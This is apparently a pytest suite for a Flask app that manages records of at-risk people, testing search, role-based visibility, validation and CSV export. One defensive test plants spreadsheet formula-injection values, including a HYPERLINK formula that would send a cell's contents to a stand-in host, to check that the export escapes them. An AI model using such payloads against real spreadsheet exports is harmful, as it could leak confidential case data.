from sqlalchemy import select

from mexiles.extensions import db
from mexiles.people.models import Person
from tests.people.conftest import FULL_RECORD


def test_coordinator_adds_a_person_and_finds_them_by_part_of_the_name(app, client, auth, make_user):
    auth.login(make_user("coordinator"))
    response = client.post("/people/new", data=FULL_RECORD)
    assert response.status_code == 302
    detail = client.get(response.headers["Location"]).data.decode()
    assert "Graciela Montoya Fuentes" in detail and "Pablo Montoya" in detail and "Sunland Park" in detail
    for part in ("montoya", "MONTOYA F", "maestra", "Graci"):
        page = client.post("/people/", data={"q": part}).data.decode()
        assert "La Maestra" in page, part
    assert "La Maestra" not in client.post("/people/", data={"q": "Ramírez"}).data.decode()


def test_search_ignores_accents_and_case(client, auth, make_user, add_person):
    coordinator = make_user("coordinator")
    add_person([coordinator.id], legal_name="José Ángel Núñez", alias="Pepe")
    auth.login(coordinator)
    assert "Pepe" in client.post("/people/", data={"q": "nunez"}).data.decode()
    assert "Pepe" in client.post("/people/", data={"q": "ANGEL NU"}).data.decode()
    assert "Pepe" in client.post("/people/", data={"q": "jose nunez"}).data.decode()  # first and last name
    assert "Pepe" not in client.post("/people/", data={"q": "jose ramirez"}).data.decode()


def test_a_search_of_fewer_than_three_letters_is_explained(client, auth, make_user):
    auth.login(make_user("coordinator"))
    assert b"Type at least 3 letters" in client.post("/people/", data={"q": "ab"}).data


def test_the_person_page_in_spanish(client, auth, make_user, add_person):
    coordinator = make_user("coordinator", locale="es")
    person_id = add_person([coordinator.id], in_hiding=True)
    auth.login(coordinator)
    page = client.get(f"/people/{person_id}").data.decode()
    assert "Nombre legal" in page and "En resguardo" in page and 'lang="es"' in page


def test_other_staff_see_the_alias_only(client, auth, make_user, add_person):
    on_team, other = make_user("coordinator"), make_user("coordinator")
    person_id = add_person([on_team.id], phone="+1 915 555 0142")
    auth.login(other)
    page = client.get(f"/people/{person_id}").data.decode()
    assert "La Maestra" in page
    assert "Graciela" not in page and "555 0142" not in page
    listing = client.get("/people/").data.decode()
    assert "La Maestra" in listing and "Graciela" not in listing
    assert client.get(f"/people/{person_id}/edit").status_code == 403
    assert client.post(f"/people/{person_id}/team", data={"members": [other.id]}).status_code == 403


def test_the_legal_name_does_not_find_someone_elses_case(client, auth, make_user, add_person):
    on_team, other = make_user("coordinator"), make_user("coordinator")
    add_person([on_team.id])
    auth.login(other)
    assert "La Maestra" not in client.post("/people/", data={"q": "Montoya"}).data.decode()
    assert "La Maestra" in client.post("/people/", data={"q": "Maestra"}).data.decode()


def test_admins_see_everything(client, auth, make_user, add_person):
    person_id = add_person([make_user("coordinator").id])
    auth.login(make_user("admin"))
    assert "Graciela Montoya Fuentes" in client.get(f"/people/{person_id}").data.decode()


def test_counselors_and_speakers_have_no_access(client, auth, make_user, add_person):
    person_id = add_person([make_user("coordinator").id])
    for role in ("counselor", "speaker", "donor"):
        client.post("/account/logout")
        auth.login(make_user(role))
        assert client.get(f"/people/{person_id}").status_code == 403


def test_bad_input_gets_clear_messages_and_keeps_what_was_typed(app, client, auth, make_user):
    auth.login(make_user("coordinator"))
    data = dict(
        FULL_RECORD, legal_name="", email="not-an-email", arrival_date="2999-01-01", phone="call me", consent_date=""
    )
    response = client.post("/people/new", data=data)
    page = response.data.decode()
    assert response.status_code == 200
    assert "This field is required" in page
    assert "Invalid email address" in page
    assert "cannot be in the future" in page
    assert "Use digits, spaces" in page
    assert "Give the date the person consented" in page
    assert "La Maestra" in page and "Cartel threats by phone" in page  # nothing typed is lost
    with app.app_context():
        assert db.session.scalar(select(Person)) is None


def test_errors_in_spanish(client, auth, make_user):
    auth.login(make_user("coordinator", locale="es"))
    page = client.post("/people/new", data=dict(FULL_RECORD, legal_name="", email="x")).data.decode()
    assert "Este campo es obligatorio" in page or "obligatorio" in page
    assert "correo" in page.lower()


def test_editing_keeps_the_household_and_records_changes(app, client, auth, make_user):
    auth.login(make_user("coordinator"))
    location = client.post("/people/new", data=FULL_RECORD).headers["Location"]
    person_id = int(location.rstrip("/").split("/")[-1])
    form = client.get(f"/people/{person_id}/edit").data.decode()
    assert 'value="Pablo Montoya"' in form
    data = dict(
        FULL_RECORD,
        current_city="Anthony",
        **{"household-1-name": "Ana Montoya", "household-1-relationship": "sibling"},
    )
    client.post(f"/people/{person_id}/edit", data=data)
    with app.app_context():
        person = db.session.get(Person, person_id)
        assert person.current_city == "Anthony"
        assert [m.name for m in person.household] == ["Pablo Montoya", "Ana Montoya"]


def test_case_team_can_be_changed_by_the_team(app, client, auth, make_user, add_person):
    mine, colleague = make_user("coordinator"), make_user("coordinator")
    person_id = add_person([mine.id])
    auth.login(mine)
    client.post(f"/people/{person_id}/team", data={"members": [mine.id, colleague.id]})
    client.post("/account/logout")
    auth.login(colleague)
    assert "Graciela" in client.get(f"/people/{person_id}").data.decode()


def test_export_holds_only_my_cases(client, auth, make_user, add_person):
    mine, other = make_user("coordinator"), make_user("coordinator")
    add_person([mine.id], legal_name="Mine Person", alias="Mine")
    add_person([other.id], legal_name="Other Person", alias="Theirs")
    auth.login(mine)
    response = client.get("/people/export.csv")
    assert response.mimetype == "text/csv"
    text = response.data.decode()
    assert "Mine Person" in text and "Other Person" not in text


def test_unknown_person_is_404(client, auth, make_user):
    auth.login(make_user("coordinator"))
    assert client.get("/people/999999").status_code == 404


def test_the_list_runs_the_same_number_of_queries_for_more_people(client, auth, make_user, add_person, count_queries):
    coordinator = make_user("coordinator")
    add_person([coordinator.id], legal_name="Uno Persona", alias="Uno")
    auth.login(coordinator)
    client.get("/people/")
    with count_queries() as few:
        assert client.get("/people/").status_code == 200
    for n in range(8):
        add_person([coordinator.id], legal_name=f"Persona Número {n}", alias=f"Alias {n}")
    with count_queries() as many:
        page = client.get("/people/").data.decode()
    assert "Alias 7" in page
    assert len(many) == len(few), "\n".join(many.statements)


def test_exported_cells_cannot_run_as_formulas(client, auth, make_user, add_person):
    mine = make_user("coordinator")
    add_person(
        [mine.id],
        legal_name="Formula Person",
        alias='=HYPERLINK("https://x/?"&B2,"open")',
        current_city="+1 then @SUM(A1)",
    )
    auth.login(mine)
    text = client.get("/people/export.csv").data.decode()
    assert "'=HYPERLINK" in text and "'+1 then" in text
    assert ",=HYPERLINK" not in text


def test_a_demoted_or_deactivated_team_member_no_longer_sees_the_record(app, make_user, add_person):
    from mexiles.accounts.models import User
    from mexiles.people import services

    member = make_user("coordinator")
    person_id = add_person([member.id])
    with app.app_context():
        user, person = db.session.get(User, member.id), services.get(person_id)
        assert services.may_see_full(user, person)
        user.role_grants[0].role = "counselor"
        assert not services.may_see_full(user, person)
        user.role_grants[0].role = "coordinator"
        user.active = False
        assert not services.may_see_full(user, person)


def test_a_partly_filled_household_row_is_not_dropped_silently(client, auth, make_user):
    auth.login(make_user("coordinator", locale="es"))
    data = dict(FULL_RECORD, **{"household-1-relationship": "sibling", "household-1-birth_year": "2001"})
    page = client.post("/people/new", data=data).data.decode()
    assert "Escriba el nombre" in page or "nombre de este integrante" in page
